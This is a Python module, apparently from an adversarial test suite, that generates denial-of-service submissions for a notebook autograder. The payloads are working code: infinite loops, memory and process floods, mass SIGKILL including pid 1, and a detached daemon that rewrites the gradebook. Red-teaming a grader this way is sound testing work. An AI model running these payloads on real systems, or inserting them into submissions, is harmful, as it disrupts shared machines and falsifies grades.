"""Denial of service: endless imports and cells, memory, process and output floods, exits, kills,
daemons that outlive the autograde."""

from __future__ import annotations

from attackzoo import Attack, add_cell, hidden, prepend
from attackzoo.writes import write_everywhere


def spawn(ctx, count: int, seconds: int) -> str:
    """Code that starts ``count`` detached processes, each tagged, each living ``seconds``."""
    return (
        "import subprocess, sys\n"
        f"for _ in range({count}):\n"
        "    try:\n"
        f"        subprocess.Popen([sys.executable, '-c', 'import time; time.sleep({seconds})', {ctx.marker()!r}],\n"
        "                         start_new_session=True, stdin=subprocess.DEVNULL,\n"
        "                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        "    except Exception as e:\n"
        "        print(type(e).__name__)\n"
        "        break\n"
    )


def _sleep(folder, ctx):
    prepend(folder, "import time\ntime.sleep(10**6)\n")


def _busy(folder, ctx):
    prepend(folder, "while True:\n    pass\n")


def _memory(folder, ctx):
    prepend(folder, "try:\n    _zoo = bytearray(64 * 1024**3)\nexcept MemoryError:\n    pass\n")
    add_cell(
        folder,
        "chunks = []\ntry:\n    while True:\n        chunks.append(bytearray(512 * 1024**2))\n"
        "except MemoryError:\n    chunks = None\n    print('MemoryError')\n",
    )


def _fork_bomb(folder, ctx):
    add_cell(folder, spawn(ctx, 300, 600))
    prepend(folder, spawn(ctx, 50, 600))


def _output_flood(folder, ctx):
    add_cell(folder, "import sys\nline = 'x' * 1023 + '\\n'\nfor _ in range(60 * 1024):\n    sys.stdout.write(line)\n")


def _exit_at_import(folder, ctx):
    prepend(folder, "import os\nos._exit(0)\n")


def _kill(folder, ctx):
    code = (
        "import os, signal\n"
        "for pid in [os.getppid()] + sorted((int(p) for p in os.listdir('/proc') if p.isdigit()), reverse=True):\n"
        "    if pid != os.getpid():\n"
        "        try:\n"
        "            os.kill(pid, signal.SIGKILL)\n"
        "        except Exception:\n"
        "            pass\n"
    )
    add_cell(folder, code)


def _kill_at_import(folder, ctx):
    prepend(
        folder,
        "import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\n"
        "    os.kill(1, signal.SIGKILL)\nexcept Exception:\n    pass\n",
    )


def _daemon(folder, ctx):
    payload = "import time\ntime.sleep(3)\n" + write_everywhere(ctx) + "time.sleep(120)\n"
    add_cell(
        folder,
        (
            "import os, subprocess, sys\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            f"    subprocess.Popen([sys.executable, '-c', {hidden(payload)}, {ctx.marker()!r}],\n"
            "                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
            "    os._exit(0)\n"
        ),
    )


def _ignore_interrupt(folder, ctx):
    add_cell(folder, "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n")


ATTACKS = [
    Attack(
        "sleep_at_import",
        "time.sleep(10**6) at import of the reference: nothing imports, so 0",
        _sleep,
        base="reference",
        points=0,
    ),
    Attack("busy_loop_at_import", "an endless busy loop at import", _busy),
    Attack(
        "memory_flood", "64 GB at import, then 512 MB chunks in a cell until MemoryError", _memory, base="reference"
    ),
    Attack("process_flood", "50 detached processes at import, 300 from a cell", _fork_bomb, base="reference"),
    Attack("output_flood", "a cell prints 60 MB", _output_flood, base="reference"),
    Attack(
        "exit_at_import",
        "os._exit(0) at import of the reference: nothing imports, so 0",
        _exit_at_import,
        base="reference",
        points=0,
    ),
    Attack("kill_everything", "a cell SIGKILLs its parent and every pid it can see", _kill, base="reference"),
    Attack("kill_parent_at_import", "at import, SIGKILL to the parent and to pid 1", _kill_at_import),
    Attack(
        "daemon_outlives_autograde",
        "a cell double-forks a detached process that rewrites the gradebook and plants files after 3 s",
        _daemon,
        base="reference",
    ),
    Attack("ignore_interrupt_loop", "a cell ignores SIGINT and loops forever", _ignore_interrupt, base="reference"),
]
